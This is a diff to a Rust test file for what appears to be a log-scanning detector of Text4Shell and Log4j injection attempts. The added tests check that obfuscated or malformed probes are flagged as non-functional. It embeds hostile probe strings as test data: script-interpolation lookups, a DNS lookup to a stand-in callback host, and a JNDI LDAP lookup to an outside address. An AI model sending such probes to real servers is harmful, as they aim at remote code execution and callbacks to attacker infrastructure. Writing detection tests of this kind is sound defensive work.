@@ -135,6 +135,19 @@ fn text4shell_reports_what_would_run() {
     for x in &t[..2] {
         assert_eq!((x.could_work.commons_text_1_9, x.could_work.commons_text_1_10_0), (Workable::Yes, Workable::No));
     }
+    // Log4j-style obfuscation or a broken payload sent to Commons Text: a probe that would not
+    // run, reported as an attempt that is not functional.
+    for probe in [
+        format!("/?a=${{${{lower:S}}{}:js:1}}", &SCRIPT[1..]),
+        format!("/?a=${{{SCRIPT}:js:1"),
+        "/?a=${${::-d}ns:address|x9.oast.example}".to_owned(),
+    ] {
+        let got = hunt(&access("203.0.113.7", &probe));
+        assert_eq!(got.len(), 1, "{probe}: {got:#?}");
+        let t = got[0].text4shell.as_ref().expect("text4shell");
+        assert!(!got[0].functional && !got[0].techniques.is_empty(), "{probe}");
+        assert_eq!(t.could_work.commons_text_1_9, Workable::No, "{probe}");
+    }
     // Log4j lookups mean nothing to Commons Text and the other way round: one record each.
     let both = access("203.0.113.6", &format!("/?a=${{{JNDI}:ldap://198.51.100.7/a}}&b=${{{SCRIPT}:js:1}}"));
     let got = hunt(&both);
